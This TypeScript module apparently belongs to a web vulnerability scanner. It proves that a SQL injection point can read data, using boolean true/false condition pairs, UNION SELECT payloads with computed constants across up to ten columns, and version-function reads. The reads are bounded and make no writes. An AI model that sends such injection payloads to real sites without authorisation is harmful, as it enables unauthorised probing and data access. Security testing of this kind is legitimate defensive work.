// SQL injection shown with a harmless read: once an error or a delay says a value reaches SQL, a
// boolean pair (always-true vs always-false condition) and a UNION SELECT of constants the database
// computes (then its version string) show that data can be read. Reads only: no stacked queries,
// no writes, a bounded number of requests.

import type { Exchange } from '../../http/exchange';
import type { SeededRandom } from '../../random';
import { bodyText, otherAnswer, sameAnswer } from '../common/answers';

/** How the value sits in the query: inside quotes (which quote), or as a bare number. */
export type SqlSyntax = { quote: "'" | '"' } | { quote: null };

/** Most columns a UNION is tried with (one request each). */
export const UNION_MAX_COLUMNS = 10;
/** Standard version functions: SQLite, PostgreSQL (and CockroachDB), MySQL/MariaDB/SQL Server. */
const VERSION_FUNCTIONS = ['sqlite_version()', 'version()', '@@version'];
/** Requests readProof may send: the boolean pair, one UNION per column count, one per version function. */
export const READ_PROOF_BUDGET = 2 + UNION_MAX_COLUMNS + VERSION_FUNCTIONS.length;

export interface BooleanRead {
  yes: Exchange;
  no: Exchange;
  conditions: [string, string];
}

export interface UnionRead {
  exchange: Exchange;
  columns: number;
  /** The 1-based column whose value the answer shows. */
  column: number;
  /** "48611*1037" and what the database made of it. */
  expression: string;
  marker: string;
  payload: string;
  /** Every column's expression, to send again with one column changed. */
  sentColumns: string[];
}

export interface VersionRead {
  exchange: Exchange;
  fn: string;
  value: string;
  payload: string;
}

export interface ReadProof {
  boolean: BooleanRead | null;
  union: UnionRead | null;
  version: VersionRead | null;
}

type Send = (value: string) => Promise<Exchange | null>;

/** The always-true and always-false conditions for a syntax, appended to the original value. */
export function booleanPair(v: string, s: SqlSyntax): [string, string] {
  if (s.quote === null) return [`${v} AND 1=1`, `${v} AND 1=2`];
  const q = s.quote;
  return [`${v}${q} AND ${q}1${q}=${q}1`, `${v}${q} AND ${q}1${q}=${q}2`];
}

/** A value that matches no row, closed for the syntax, so that only the UNION's row comes back. */
function unionPrefix(random: SeededRandom, s: SqlSyntax): string {
  return s.quote === null ? `-${random.int(100000, 999999)}` : `pcx${random.int(100000, 999999)}${s.quote}`;
}

/**
 * Products the database computes (a*b), one per column: the request carries "a*b", the answer the
 * product, so an input echoed back can never look like a read.
 */
function markers(random: SeededRandom, columns: number): { expr: string; value: string }[] {
  const a = random.int(10007, 49999);
  return Array.from({ length: columns }, (_, i) => {
    const b = 1013 + i * 17 + random.int(0, 15);
    return { expr: `${a}*${b}`, value: String(a * b) };
  });
}

const unionPayload = (prefix: string, cols: string[]) => `${prefix} UNION SELECT ${cols.join(',')}-- -`;

/** A version-like value the version answer shows and the UNION answer did not. */
function versionValue(ex: Exchange, before: Exchange): string | null {
  const old = new Set(bodyText(before).split('\n').map((l) => l.trim()));
  for (const line of bodyText(ex).split('\n')) {
    const l = line.trim();
    if (!l || old.has(l)) continue;
    if (/\b\d+\.\d+\.\d+\b|PostgreSQL \d|MariaDB|MySQL|Microsoft SQL Server/i.test(l)) return l.slice(0, 160);
  }
  return null;
}

async function booleanRead(send: Send, v: string, s: SqlSyntax, reference: Exchange | null): Promise<BooleanRead | null> {
  if (!reference?.ok) return null;
  const conditions = booleanPair(v, s);
  const yes = await send(conditions[0]);
  if (!yes || !sameAnswer(yes, reference)) return null;
  const no = await send(conditions[1]);
  if (!no?.response || no.status >= 500 || !otherAnswer(no, reference)) return null;
  return { yes, no, conditions };
}

async function unionRead(random: SeededRandom, send: Send, s: SqlSyntax, baseline: Exchange): Promise<UnionRead | null> {
  const prefix = unionPrefix(random, s);
  for (let columns = 1; columns <= UNION_MAX_COLUMNS; columns += 1) {
    const cols = markers(random, columns);
    const payload = unionPayload(prefix, cols.map((c) => c.expr));
    const ex = await send(payload);
    if (!ex) return null;
    if (!ex.response) continue;
    const i = cols.findIndex((c) => ex.body.includes(c.value) && !baseline.body.includes(c.value));
    if (i >= 0) return { exchange: ex, columns, column: i + 1, expression: cols[i]!.expr, marker: cols[i]!.value, payload, sentColumns: cols.map((c) => c.expr) };
  }
  return null;
}

async function versionRead(send: Send, union: UnionRead): Promise<VersionRead | null> {
  const prefix = union.payload.slice(0, union.payload.indexOf(' UNION SELECT '));
  for (const fn of VERSION_FUNCTIONS) {
    // Only the shown column changes, so anything else new in the answer comes from it.
    const cols = [...union.sentColumns];
    cols[union.column - 1] = fn;
    const payload = unionPayload(prefix, cols);
    const ex = await send(payload);
    if (!ex) return null;
    const value = ex.response ? versionValue(ex, union.exchange) : null;
    if (value) return { exchange: ex, fn, value, payload };
  }
  return null;
}

/**
 * What an injection point lets an attacker read, tried for each likely syntax: the boolean pair
 * (when a reference answer is given and succeeded), then a UNION of computed constants, then the
 * version (`union` false: the boolean pair only). `send` returns null when the budget is spent.
 */
export async function readProof(random: SeededRandom, send: Send, v: string, syntaxes: SqlSyntax[], reference: Exchange | null, baseline: Exchange, union = true): Promise<ReadProof> {
  const proof: ReadProof = { boolean: null, union: null, version: null };
  for (const s of syntaxes) {
    proof.boolean ??= await booleanRead(send, v, s, reference);
    // The UNION ends in a comment that cuts off the rest of the statement: never on an operation that changes data (probe-safety.ts).
    proof.union = union ? await unionRead(random, send, s, baseline) : null;
    if (proof.union) {
      proof.version = await versionRead(send, proof.union);
      return proof;
    }
    if (proof.boolean) return proof;
  }
  return proof;
}

/** The proof in words, for the description and the notes. */
export function describeRead(r: ReadProof): { sentence: string; notes: string[] } {
  const parts: string[] = [];
  const notes: string[] = [];
  if (r.boolean) {
    parts.push(`an always-true condition answered like the unchanged request and an always-false one did not (HTTP ${r.boolean.no.status})`);
    notes.push(`Boolean pair: ${JSON.stringify(r.boolean.conditions[0])} -> HTTP ${r.boolean.yes.status} like the baseline; ${JSON.stringify(r.boolean.conditions[1])} -> HTTP ${r.boolean.no.status}, another answer.`);
  }
  if (r.union) {
    parts.push(`a UNION SELECT of ${r.union.columns} computed constants came back in the answer (${r.union.expression} = ${r.union.marker}, column ${r.union.column})`);
    notes.push(`UNION read: ${JSON.stringify(r.union.payload)} -> the answer contains ${r.union.marker}, which the database computed from ${r.union.expression}.`);
  }
  if (r.version) {
    parts.push(`and ${r.version.fn} returned "${r.version.value}"`);
    notes.push(`Database version read with ${r.version.fn}: "${r.version.value}" (${JSON.stringify(r.version.payload)}).`);
  }
  return { sentence: parts.join('; '), notes };
}

/** The exchanges that show the read, labelled for the evidence. */
export function readExchanges(r: ReadProof): { label: string; exchange: Exchange }[] {
  return [
    ...(r.boolean
      ? [
          { label: 'Read proof: always-true condition', exchange: r.boolean.yes },
          { label: 'Read proof: always-false condition', exchange: r.boolean.no },
        ]
      : []),
    ...(r.union ? [{ label: `Read proof: UNION SELECT of ${r.union.columns} constants`, exchange: r.union.exchange }] : []),
    ...(r.version ? [{ label: `Read proof: ${r.version.fn}`, exchange: r.version.exchange }] : []),
  ];
}
